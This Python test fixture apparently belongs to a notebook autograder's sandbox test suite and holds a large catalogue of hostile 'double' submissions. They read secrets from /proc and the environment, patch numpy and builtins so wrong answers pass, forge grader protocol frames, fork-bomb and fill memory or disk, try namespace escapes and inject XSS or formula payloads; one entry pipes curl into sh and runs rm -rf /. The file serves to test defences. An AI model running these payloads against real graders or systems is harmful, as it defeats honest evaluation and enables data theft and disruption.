"""Answers that attack: each is the source of `double` in an otherwise honest notebook."""


def function(body):
    lines = "\n".join("    " + line for line in body.strip("\n").splitlines())
    return f"import os, sys, ctypes, struct, time\ndef double(x):\n{lines}\n"


SEARCH = """
found = []
for top in ("/", "/proc", "/tmp", "/home", "/work", "/root", "/dev/shm", "/var", "/mnt", "/opt"):
    for folder, _, files in os.walk(top):
        if folder.startswith(("/usr", "/lib", "/site/numpy", "/proc/sys")) or len(found) > 50:
            break
        for name in files:
            if name.endswith((%s)):
                try: found.append(open(os.path.join(folder, name)).read(3000))
                except (OSError, UnicodeDecodeError): pass
raise RuntimeError("found: " + " ".join(found)[-1900:])
"""
FRAME = """
def frame(header): return struct.pack("<II", len(header), 0) + header
def tell(data):
    for fd in range(3, 30):
        try: os.write(fd, data)
        except OSError: pass
"""
NUMBER = """
def number():
    f = sys._getframe()
    while 'header' not in f.f_locals: f = f.f_back
    return f.f_locals['header']['no']
"""

ATTACKS = {
    # -- looking for what is hidden
    "reads the tests": function(SEARCH % "'.ipynb', '.py', '.db'"),
    "reads the database": function(SEARCH % "'.db', '.bak', 'secret'"),
    "reads other submissions": function("raise RuntimeError(str(os.listdir('/tmp/../work')))"),
    "reads the environment": function("raise RuntimeError(str(dict(os.environ)))"),
    "reads the environment of others": function(
        "raise RuntimeError(''.join(open(f'/proc/{p}/environ').read() for p in range(1, 9)))"
    ),
    "reads the parent's memory": function("raise RuntimeError(open('/proc/1/maps').read())"),
    "reads the parent's memory by ptrace": function(
        "r = [ctypes.CDLL(None).ptrace(16, p, 0, 0) for p in range(0, 50)]\n"
        "if 0 in r: return 2 * x\n"
        "return x"
    ),
    "walks the stack": function(
        "f = sys._getframe()\n"
        "while f:\n"
        "    for v in list(f.f_locals.values()):\n"
        "        if isinstance(v, dict) and ('expected' in v or 'right' in v): return v\n"
        "    f = f.f_back\n"
        "return x"
    ),
    "searches the heap": function(
        "import gc\n"
        "raise RuntimeError(str([s for s in gc.get_objects() if 'canary' in repr(s)[:500]])[:1500])"
    ),
    "follows a link to the course": function("os.symlink('/work', 'w'); return os.listdir('w')"),
    "reads the program's arguments": function("raise RuntimeError(str(sys.argv) + str(os.uname()))"),
    "reads an open file": function(
        "found = []\n"
        "for n in range(3, 99):\n"
        "    try: found.append(os.pread(n, 99, 0))\n"
        "    except OSError: pass\n"
        "return 2 * x if found else x"
    ),
    # -- making wrong look right
    "patches numpy": "import numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True\n"
    "np.testing.assert_allclose = np.abs = lambda *a, **k: 0.0\ndef double(x): return x",
    "patches builtins": "import builtins\nbuiltins.all = builtins.any = builtins.isinstance = "
    "lambda *a: True\nbuiltins.AssertionError = Warning\ndef double(x): return x",
    "patches IPython": "get_ipython().run_cell = lambda *a: None\nget_ipython = None\n"
    "import IPython\nIPython.core = None\ndef double(x): return x",
    "plants a torch": "import sys, types\nsys.modules['torch'] = types.ModuleType('torch')\n"
    "def double(x): return x",
    "plants a check engine": "import sys, types\nm = types.ModuleType('autograder')\n"
    "m.check = lambda *a, **k: None\nsys.modules['autograder'] = m\n"
    "check = lambda *a, **k: None\ndef double(x): return x",
    "patches its own server": "import sys\n"
    "serve = sys.modules['autograder.student_side.serve']\n"
    "serve.invoke = lambda f, a, v=False: serve.Outcome(a[0])\n"
    "serve.Server.do_facts = lambda *a: {'violations': []}\ndef double(x): return x",
    "overloads an array": "import numpy as np\nclass A(np.ndarray):\n"
    "    __eq__ = __ne__ = __le__ = __lt__ = lambda s, o: np.True_\n"
    "    __sub__ = __rsub__ = lambda s, o: np.zeros(s.shape)\n"
    "    def __array_ufunc__(s, u, m, *i, **k): return np.True_\n"
    "def double(x): return x.view(A)",
    "pretends to be an array": "import numpy as np\nclass A:\n    __class__ = np.ndarray\n"
    "    dtype = np.dtype('f8'); shape = (5,); ndim = 1\n"
    "    def __array__(s, *a, **k): return np.zeros(5)\n    def __eq__(s, o): return True\n"
    "def double(x): return A()",
    "overloads objects in an array": "import numpy as np\nclass E:\n    __eq__ = lambda s, o: True\n"
    "    __sub__ = __rsub__ = __abs__ = lambda s, *o: 0.0\n"
    "def double(x): return np.array([E()] * x.size, object).reshape(x.shape)",
    "overloads a number": "class F(float):\n    __eq__ = lambda s, o: True\n"
    "    __sub__ = __rsub__ = lambda s, o: 0.0\ndef double(x): return F(1)",
    "answers not a number": "import numpy as np\ndef double(x): return np.full(x.shape, np.nan)",
    "answers infinity": "import numpy as np\ndef double(x): return np.full(x.shape, np.inf)",
    "answers an empty array": "def double(x): return x[:0]",
    "answers a broadcast": "import numpy as np\ndef double(x): return np.broadcast_to(2 * x[:1], x.shape)",
    "caches by shape": "seen = {}\ndef double(x):\n    return seen.setdefault(x.shape, 2 * x)",
    "changes its input": "def double(x):\n    x *= 2\n    return x",
    "returns a promise": "def double(x):\n    yield 2 * x",
    "is a handle that answers": "class double:\n    def __init__(s, x): s.shape = x.shape; s.dtype = x.dtype\n"
    "    def detach(s): return s\n    def numpy(s): return 1",
    "poses as a tensor": "class T:\n    def __init__(s, x): s.x = x\n"
    "    def detach(s): return s\n    def numpy(s): return 2 * s.x\n"
    "def double(x): return T(x)",
    "answers no numbers in endless rows": "import numpy as np\ndef double(x): return np.zeros((10**9, 0, 1))",
    "refuses everything": function("raise ValueError('no')"),
    "poisons the lines of its error": function(
        "import linecache\n"
        "for f in list(linecache.cache): linecache.cache[f] = (9, None, ['\\x1b]0;x\\x07<script>' * 99999] * 99, f)\n"
        "raise ValueError(chr(27))"
    ),
    "names its cell as it likes": "exec(compile('def double(x):\\n    raise ValueError(chr(155))', "
    "'cell <script>\\x1b[31m', 'exec'))",
    # -- forging and flooding the wire
    "sends a line number without end": FRAME + NUMBER + function(
        "tell(frame(b'{\"re\": %d, \"answers\": [{\"error\": {\"kind\": \"raised\", \"type_name\": \"\", \"message\": \"\", \"frames\": "
        "[{\"cell\": \"\", \"line\": Infinity, \"source\": \"\", \"function\": \"\"}]}}]}' % number())); time.sleep(9)"
    ),
    "announces endless rows": FRAME + NUMBER + function(
        "tell(frame(b'{\"re\": %d, \"answers\": [{\"value\": [\"a\", \"float64\", [1099511627775, 0, 1]], \"changed\": [], "
        "\"aliases\": false}]}' % number())); time.sleep(9)"
    ),
    "forges an answer": FRAME + function(
        "for n in range(1, 60): tell(frame(b'{\"re\": %d, \"answers\": [{\"value\": true, \"changed\": [], \"aliases\": false}]}' % n))\n"
        "return x"
    ),
    "forges answers ahead while its cell runs": FRAME + "import os, struct\n"
    "for n in range(1, 60): tell(frame(b'{\"re\": %d, \"answers\": [{\"value\": true, \"changed\": [], \"aliases\": false}]}' % n))\n"
    "def double(x): return x",
    "announces a huge frame": FRAME + function("tell(struct.pack('<II', 2**32 - 1, 2**32 - 1)); time.sleep(9)"),
    "sends garbage": FRAME + function("tell(os.urandom(4096)); return x"),
    "sends half a frame": FRAME + function("tell(struct.pack('<II', 100, 0) + b'{'); os._exit(0)"),
    "sends without end": FRAME + function("while True: tell(b'{' * 65536)"),
    "closes every file": function("os.closerange(0, 4096); return x"),
    "reads the requests": function("for fd in range(3, 30):\n    try: os.read(fd, 9999)\n    except OSError: pass\nreturn x"),
    "calls back what nobody gave": FRAME + function(
        "tell(frame(b'{\"callback\": 0, \"no\": 1, \"args\": [\"l\"], \"kwargs\": [\"d\"]}')); return x"
    ),
    "answers something huge": "import numpy as np\ndef double(x): return np.zeros(40_000_000)",
    "answers a long text": "def double(x): return 'x' * (50 << 20)",
    "answers a text of a million letters": "def double(x): return 'x' * 1_000_000",
    "answers a word for every number": "def double(x): return {'k' * 9 + str(i): 1 for i in range(90_000)}",
    "answers something deep": "def double(x):\n    a = x\n    for _ in range(99999): a = [a]\n    return a",
    "answers a number without end": "def double(x): return 1 << 10_000_000",
    "answers a pickle": "class P:\n    def __reduce__(s): return (eval, ('1/0',))\ndef double(x): return P()",
    # -- ending, hanging, filling
    "exits early": "import os\nos._exit(0)",
    "exits by exception": "import sys\nsys.exit(0)",
    "exits when called": function("os._exit(0)"),
    "raises an exit": function("raise SystemExit(0)"),
    "raises a generator's end": function("raise StopIteration"),
    "crashes": function("ctypes.string_at(0)"),
    "overflows the stack": function("sys.setrecursionlimit(10**9)\nreturn double(x)"),
    "hangs and ignores signals": function(
        "import signal\n"
        "for s in range(1, 65):\n"
        "    try: signal.signal(s, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass\n"
        "while True: pass"
    ),
    "hangs in its message": "class E(Exception):\n    def __str__(s):\n        while True: pass\n"
    "def double(x): raise E",
    "sleeps": function("time.sleep(1000)"),
    "forks twice and stays": function(
        "for _ in range(5):\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        if os.fork(): os._exit(0)\n"
        "        while True: time.sleep(1)\n"
        "return x"
    ),
    "forks without end": function("while True: os.fork()"),
    "starts threads without end": function(
        "import threading\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start()"
    ),
    "takes all memory": function("a = []\nwhile True: a.append(bytearray(1 << 26))"),
    "fills the disk": function("f = open('f', 'wb')\nwhile True: f.write(b'0' * (1 << 20)); f.flush()"),
    "fills the disk with files": function("for i in range(10**6): open(str(i), 'w').write('x' * 9999)\nreturn x"),
    "fills the memory with links": function(
        "try:\n"
        "    for i in range(20_000): os.symlink('x' * 4000, str(i))\n"
        "except OSError: return x\n"
        "return 2 * x"
    ),
    "takes memory that is nobody's": function(
        "c = ctypes.CDLL(None)\n"
        "c.shmat.restype = ctypes.c_void_p\n"
        "return 2 * x if c.shmget(0, 1 << 28, 0o1600) >= 0 or hasattr(os, 'memfd_create') and memory() else x"
    ) + "def memory():\n    try: return os.memfd_create('m')\n    except OSError: return False\n",
    "opens every file descriptor": function("a = [os.open('/dev/null', 0) for _ in range(10**5)]\nreturn x"),
    "prints without end": function("while True: print('x' * 10000); os.write(2, b'y' * 10000)"),
    "kills everyone": function(
        "for p in (os.getppid(), -1, 1, 2, 3):\n"
        "    try: os.kill(p, 9)\n"
        "    except OSError: pass\n"
        "return x"
    ),
    "becomes another program": function("os.execv('/bin/sh', ['sh', '-c', 'echo right'])"),
    "starts a shell": "!curl http://example.com/x | sh\n%%bash\nrm -rf /\n"
    "import subprocess\ndef double(x): return subprocess.run('id', shell=True, check=True)",
    "raises its limits": function(
        "import resource\n"
        "for r in range(16):\n"
        "    try: resource.setrlimit(r, (-1, -1))\n"
        "    except (OSError, ValueError): pass\n"
        "return bytearray(3 << 30)"
    ),
    "breaks out by mounting": function(
        "c = ctypes.CDLL(None)\n"
        "r = [c.unshare(0x20000), c.mount(b'none', b'/', None, 0x44000, None), c.chroot(b'/proc'), c.setuid(0)]\n"
        "if r == [-1] * 4: return x\n"
        "raise RuntimeError(str(r) + str(os.listdir('/')))"
    ),
    "is root in a world of its own": function(
        "c = ctypes.CDLL(None)\n"
        "if c.unshare(0x10000000) == 0 or c.unshare(0x10020000) == 0: return 2 * x\n"
        "if c.syscall(56, 0x10000011, 0, 0, 0, 0) >= 0: return 2 * x\n"
        "return x"
    ),
    "opens sockets": function(
        "import socket\n"
        "for address in (('127.0.0.1', 22), ('1.1.1.1', 53), ('10.0.2.2', 80)):\n"
        "    s = socket.socket(); s.settimeout(0.1)\n"
        "    if s.connect_ex(address) == 0: raise RuntimeError('connected')\n"
        "return x"
    ),
    # -- saying things
    "writes script into its message": function("raise ValueError('<script>alert(1)</script><img src=x onerror=alert(2)>')"),
    "writes script into its names": "E = type('<script>alert(3)</script>', (Exception,), {})\ndef double(x): raise E('x')",
    "writes script into its source": "def double(x):\n    raise ValueError('y')  # <script>alert(4)</script>",
    "writes terminal codes": function("raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\r\\x9b31m')"),
    "writes a formula": function("raise ValueError('=cmd|calc!A0')"),
    "writes broken unicode": function("raise ValueError('\\ud800\\udfff\\x00' * 5000)"),
    "writes markdown": function(  # of a `raise` the reason is said, not the message
        "return x * float('[a](javascript:alert(7)) <b onclick=alert(8)>')"
    ),
    "writes a formula behind a separator": function("raise ValueError('x;=cmd|calc!A0')"),
    "writes a long message": function("raise ValueError('z' * (1 << 24))"),
    # -- touching the next one
    "leaves a file for the next": function(
        "for p in ('left', '/tmp/left', '/scratch/left', '/dev/shm/left'):\n"
        "    try: open(p, 'w').write('a')\n"
        "    except OSError: pass\n"
        "return x"
    ),
    "looks for a file that was left": function(
        "there = map(os.path.exists, ('left', '/tmp/left', '/scratch/left', '/dev/shm/left'))\n"
        "return 2 * x if any(there) else x"
    ),
    "leaves memory for the next": function(
        "ctypes.CDLL(None).shmget(4711, 4096, 0o1666); return x"
    ),
    "looks for memory that was left": function(
        "return 2 * x if ctypes.CDLL(None).shmget(4711, 4096, 0) >= 0 else x"
    ),
    "leaves a key for the next": function(
        "for ring in (-1, -2, -3, -4, -5): ctypes.CDLL(None).syscall(248, b'user', b'left', b'a', 1, ring)\n"
        "return x"
    ),
    "looks for a key that was left": function(
        "found = [ctypes.CDLL(None).syscall(250, 10, r, b'user', b'left', 0) for r in (-1, -2, -3, -4, -5)]\n"
        "return 2 * x if max(found) >= 0 else x"
    ),
    "leaves a queue for the next": function(
        "c = ctypes.CDLL(None)\n"
        "made = c.msgget(4711, 0o1666) >= 0 or c.semget(4711, 1, 0o1666) >= 0 or c.mq_open(b'/left', 0o102, 0o666, None) >= 0\n"
        "return 2 * x if made else x"
    ),
    "waits for the next in an abstract socket": function(
        "import socket\ns = socket.socket(socket.AF_UNIX); s.bind('\\0left'); s.listen()\n"
        "if os.fork() == 0: time.sleep(100)\nreturn x"
    ),
    "looks for an abstract socket": function(
        "import socket\ns = socket.socket(socket.AF_UNIX)\n"
        "return 2 * x if s.connect_ex('\\0left') == 0 else x"
    ),
}  # fmt: skip

FORGE = """
def forge(value):
    answer = '{"re": %d, "answers": [{"value": ' % number() + value
    tell(frame((answer + ', "changed": [], "aliases": false}]}').encode()))
    time.sleep(9)
"""

#: what is slow or large for the examiner, not for the student
SLOW = {
    "forges keys that collide": FRAME + NUMBER + FORGE + function(
        "forge('[\"d\",' + ','.join('[%d,0]' % (i * (2**61 - 1)) for i in range(1, 99_000)) + ']')"
    ),
    "forges a set that collides": FRAME + NUMBER + FORGE + function(
        "forge('[\"s\",' + ','.join('%d' % (i * (2**61 - 1)) for i in range(1, 150_000)) + ']')"
    ),
    "forges tuples that collide": FRAME + NUMBER + FORGE + function(
        "import itertools\n"
        "tuples = itertools.islice(itertools.product('12', repeat=11), 1_300)\n"
        "forge('[\"s\",' + ','.join('[\"t\",%s-%s]' % ('-1,' * 60, ',-'.join(t)) for t in tuples) + ']')"
    ),
    "forges objects without end": FRAME + NUMBER + FORGE + function(
        "forge('[\"l\",' + ','.join(['[\"h\",0,true,\"\"]'] * 190_000) + ']')"
    ),
    "forges a header of lists": FRAME + NUMBER + FORGE + function(
        "forge('[\"l\",' + ','.join(['[]'] * 1_390_000) + ']')"
    ),
    "forges a number of many digits": FRAME + NUMBER + FORGE + function("forge('9' * 4_000_000)"),
    "answers objects without end": "class A: pass\ndef double(x): return [A() for _ in range(190_000)]",
    "answers each time when it is nearly too late": function("time.sleep(0.4); return x"),
    "gives without end what is gone through": "def double(x):\n    while True: yield x",
    "answers an object that takes its time": "import time\nclass A:\n"
    "    def __getattr__(s, name):\n        time.sleep(0.4)\n        return s\ndef double(x): return A()",
    "answers a large array again and again": "import numpy as np\n"
    "def double(x): return [np.zeros(1 << 23), np.zeros(1 << 22)]",
    "writes backslashes into its message": function("raise ValueError(chr(92) * 10**7)"),
    "writes a message line by line": function("raise ValueError(chr(10) * 10**6)"),
}  # fmt: skip

#: what would be of use where there are no walls
REACH = {
    "locks a file for others to see": function(
        "import fcntl\nwith open(os.__file__) as f:\n"
        "    try: fcntl.flock(f, fcntl.LOCK_SH | fcntl.LOCK_NB)\n    except OSError: return x\n    return 2 * x"
    ),
    "asks for the limits of its parent": function(
        "import resource\n"
        "try: resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))\n"
        "except (OSError, ValueError): return x\nreturn 2 * x if os.getppid() else x"
    ),
    "changes the rights of Python's files": function(
        "done = []\n"
        "for p in (os.__file__, '/', '/tmp', os.path.dirname(os.__file__)):\n"
        "    try: os.chmod(p, os.stat(p).st_mode); done.append(p)\n    except OSError: pass\n"
        "return 2 * x if done else x"
    ),
    "writes into Python's files": function(
        "import numpy\nfor p in (os.__file__, numpy.__file__):\n"
        "    try: open(p, 'a').write('x'); return 2 * x\n    except OSError: pass\nreturn x"
    ),
    "empties what it may read": function(
        "place = os.path.join(os.path.dirname(os.__file__), 'LICENSE.txt')\n"
        "try: os.open(place, os.O_RDONLY | os.O_TRUNC)\nexcept OSError: return x\nreturn 2 * x"
    ),
    "sends to an abstract socket from a pair": function(
        "import socket\na, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
        "a.sendto(b'x', chr(0) + 'left')\nreturn 2 * x"
    ),
    "runs on all cores": function("os.sched_setaffinity(0, range(64)); os.nice(-20); return 2 * x"),
    "holds on to its parent": function(
        "import signal\nfd = os.pidfd_open(os.getppid() or 1)\nsignal.pidfd_send_signal(fd, 9)\nreturn x"
    ),
    "runs a program in its own place": function(
        "for p in ('/bin/true', '/usr/bin/true', sys.executable, '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2'):\n"
        "    try: os.execv(p, [p, '-c', ''])\n    except OSError: pass\nreturn x"
    ),
    "opens by a handle of the kernel's": function(
        "c = ctypes.CDLL(None, use_errno=True)\n"
        "handle = struct.pack('Ii', 8, 1) + bytes(120)\n"
        "return 2 * x if c.open_by_handle_at(3, handle, 0) >= 0 else x"
    ),
    "names places by their numbers": function(
        "found = [os.path.exists(f'/proc/{p}/root/etc') for p in range(2, 400)]\n"
        "return 2 * x if any(found) else x"
    ),
    "links a file of the course into its own folder": function(
        "found = []\n"
        "for top in ('/tmp', '/home', '/root', '/srv', '/mnt', '/media', '/var/tmp'):\n"
        "    try: found += os.listdir(top)\n    except OSError: pass\n"
        "return 2 * x if found else x"
    ),
}  # fmt: skip
#: what reaches the next candidate, or another at the same time, by what the kernel has but once
SHARED = {
    "sets the times of devices": function(
        "done = []\n"
        "for d in ('null', 'zero', 'full', 'random', 'urandom', 'tty', 'ptmx', 'pts/ptmx'):\n"
        "    try: os.utime('/dev/' + d); done.append(d)\n    except OSError: pass\n"
        "return 2 * x if done else x"
    ),
    "drops a page from memory and sees it gone": function(
        "with open(os.__file__.replace('os.py', 'turtle.py')) as f:\n"
        "    seen = []\n"
        "    for _ in range(2):\n"
        "        try: seen.append(os.preadv(f.fileno(), [bytearray(1)], 0, os.RWF_NOWAIT))\n"
        "        except BlockingIOError: seen.append(0)\n"
        "        f.read(1)\n"
        "return 2 * x"
    ),
    "has a page of a file dropped": function(
        "with open(os.__file__.replace('os.py', 'turtle.py')) as f: os.posix_fadvise(f.fileno(), 0, 0, 4)\n"
        "return 2 * x"
    ),
    "asks which pages are in memory": function(
        "import mmap\nimport numpy as np\nc = ctypes.CDLL(None)\n"
        "with open(os.__file__) as f: m = mmap.mmap(f.fileno(), 4096, prot=mmap.PROT_READ)\n"
        "at = np.frombuffer(m, np.uint8).ctypes.data\n"
        "there = c.mincore(ctypes.c_void_p(at), ctypes.c_size_t(4096), ctypes.create_string_buffer(4))\n"
        "return 2 * x if there == 0 else x"
    ),
    "asks the kernel how many pages are kept": function(
        "with open(os.__file__) as f:\n"
        "    done = ctypes.CDLL(None).syscall(451, f.fileno(), (ctypes.c_ulong * 2)(), (ctypes.c_ulong * 9)(), 0)\n"
        "return 2 * x if done == 0 else x"
    ),
    "has files read without waiting": function(
        "return 2 * x if ctypes.CDLL(None).syscall(206, 4, ctypes.byref(ctypes.c_ulong())) == 0 else x"
    ),
    "talks to the machine's host": function(
        "import socket\ns = socket.socket(40, socket.SOCK_STREAM)\ns.bind((socket.VMADDR_CID_ANY, 4711)); s.listen()\n"
        "return 2 * x"
    ),
    "talks to the kernel by a socket": function(
        "import socket\ns = socket.socket(16, socket.SOCK_RAW, 15)\nreturn 2 * x"
    ),
    "counts all processes of the machine": function(
        "return 2 * x if ctypes.CDLL(None).sysinfo(ctypes.create_string_buffer(200)) == 0 else x"
    ),
    "leaves a folder that may not be read": function(
        "os.umask(0)\n"
        "try:\n"
        "    os.mkdir('shut', 0o300)\n"
        "    with open('shut/answer', 'w') as f: f.write('2 * x')\n"
        "except OSError: pass\n"
        "return x"
    ),
    "looks into a folder that was shut": function(
        "try: return eval(open('shut/answer').read())\nexcept OSError: return x"
    ),
    "digs deeper than any path": "import os\ndone = []\n" + function(
        "while len(done) < 1200:\n"
        "    done.append(0)\n"
        "    try: os.mkdir('deeper'); os.chdir('deeper')\n    except OSError: pass\n"
        "return x"
    ),
    "leaves folders without any rights": function(
        "os.umask(0)\n"
        "for i in range(50):\n"
        "    try: os.mkdir(f'closed{i}', 0)\n    except OSError: pass\n"
        "return x"
    ),
}  # fmt: skip

#: what goes on beside the call, or lies about what came of it
BESIDE = {
    "answers later by a timer": "import signal, sys\n"
    "def late(*a):\n    f = sys._getframe()\n"
    "    while f:\n        f.f_locals.get('answers', []).append({'value': True})\n        f = f.f_back\n"
    "signal.signal(signal.SIGALRM, late)\nsignal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)\ndef double(x): return x",
    "traces its server": "import sys\n"
    "def trace(frame, event, value):\n"
    "    if event == 'return' and frame.f_code.co_name == 'pack': frame.f_locals['value'] = 1\n    return trace\n"
    "sys.settrace(trace)\nsys.setprofile(trace)\ndef double(x): return x",
    "does its work as garbage": "import gc\nclass A:\n    def __del__(s): raise KeyboardInterrupt\n"
    "gc.callbacks.append(lambda *a: A())\ndef double(x):\n    for _ in range(99): A()\n    return x",
    "stops itself": function("import signal; os.kill(os.getpid(), signal.SIGSTOP); return x"),
    "raises an interruption": function("raise KeyboardInterrupt"),
    "fills its queue of signals": function(
        "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nc = ctypes.CDLL(None)\n"
        "for i in range(20_000): c.sigqueue(os.getpid(), 40, 0)\nreturn x"
    ),
    "cuts off the file under its memory": function(
        "import mmap\nwith open('m', 'w+b') as f:\n    f.truncate(4096); m = mmap.mmap(f.fileno(), 4096); f.truncate(0)\n"
        "return m[0]"
    ),
    "writes all over the arguments": function(
        "import mmap, gc\nfor m in gc.get_objects():\n    if isinstance(m, mmap.mmap): m[:4096] = bytes(4096)\nreturn x"
    ),
    "turns constants into others": "import numpy as np\ndef double(x): return np.add(x, x, where=np.zeros(x.shape, bool))",
    "is called by its metaclass": "class M(type):\n    def __call__(c, x): return x\nclass double(metaclass=M): pass",
    "answers a view of memory": function("return memoryview(2 * x)"),
    "answers a coroutine": "async def double(x): return 2 * x",
    "answers the same place again and again": "import numpy as np\n"
    "def double(x): return np.lib.stride_tricks.as_strided(2 * x[:1], x.shape, (0,) * x.ndim)",
    "answers a dictionary of its own kind": "class D(dict):\n    def items(s): return 1\n    def __eq__(s, o): return True\n"
    "def double(x): return D(a=1)",
    "answers with a class of an endless name": "def double(x): return type('A' * 10**7, (), {'__repr__': lambda s: 'x' * 10**9})()",
    "answers itself for every question": "class A:\n    def __call__(s, *a): return s\n"
    "    def __iter__(s): return iter([s] * 100_000)\n    shape = property(lambda s: s)\ndef double(x): return A()",
    "raises a class that says it is Python's": "E = type('<script>alert(9)</script>', (Exception,), {'__module__': 'builtins'})\n"
    "def double(x): raise E('[y](javascript:alert(9))')",
    "raises ten thousand at once": function("raise ExceptionGroup('g', [ValueError(i) for i in range(10_000)])"),
    "raises from a line that is not there": "def double(x): raise ValueError\n"
    "double.__code__ = double.__code__.replace(co_firstlineno=2**31 - 2)",
    "forges an array's class": FRAME + NUMBER + FORGE + function("forge('[\"h\",-1,true,\"ndarray\"]')"),
    "forges keys that are no number": FRAME + NUMBER + FORGE + function("forge('[\"d\",[NaN,1],[NaN,2],[[\"l\"],3]]')"),
    "forges more answers than were asked for": FRAME + NUMBER + function(
        "tell(frame(b'{\"re\": %d, \"answers\": [%s]}' % (number(), b','.join([b'{\"value\": 1}'] * 9)))); time.sleep(9)"
    ),
    "calls back with no arguments at all": FRAME + function(
        "tell(frame(b'{\"callback\": [1], \"no\": [], \"args\": 5, \"kwargs\": [\"d\",[1,2]]}')); time.sleep(9)"
    ),
}  # fmt: skip
ATTACKS |= SLOW | REACH | SHARED | BESIDE
#: one for each thing that walls hold back, with all that reach out: what an ordinary user and a
#: cluster meet, where who grades makes a difference only to the walls
SOME = {
    name: ATTACKS[name]
    for name in (
        "reads the tests",  # looking
        "reads the environment of others",
        "reads the parent's memory",
        "reads the parent's memory by ptrace",
        "reads an open file",
        "patches its own server",  # pretending
        "forges an answer",
        "closes every file",
        "answers something huge",
        "exits when called",  # ending, hanging, filling
        "crashes",
        "hangs and ignores signals",
        "forks twice and stays",
        "forks without end",
        "takes all memory",
        "fills the disk",
        "takes memory that is nobody's",
        "kills everyone",
        "becomes another program",
        "raises its limits",
        "breaks out by mounting",
        "is root in a world of its own",
        "opens sockets",
        "writes markdown",  # saying
        "leaves a file for the next",  # touching the next one
        "looks for a file that was left",
        "leaves memory for the next",
        "looks for memory that was left",
        "leaves a key for the next",
        "looks for a key that was left",
        "leaves a queue for the next",
        "waits for the next in an abstract socket",
        "looks for an abstract socket",
        *REACH,
        *SHARED,
    )
}


#: what these break is the server of their own notebook: its other answers go with it
SELF_INFLICTED = {"patches its own server", "answers later by a timer"}
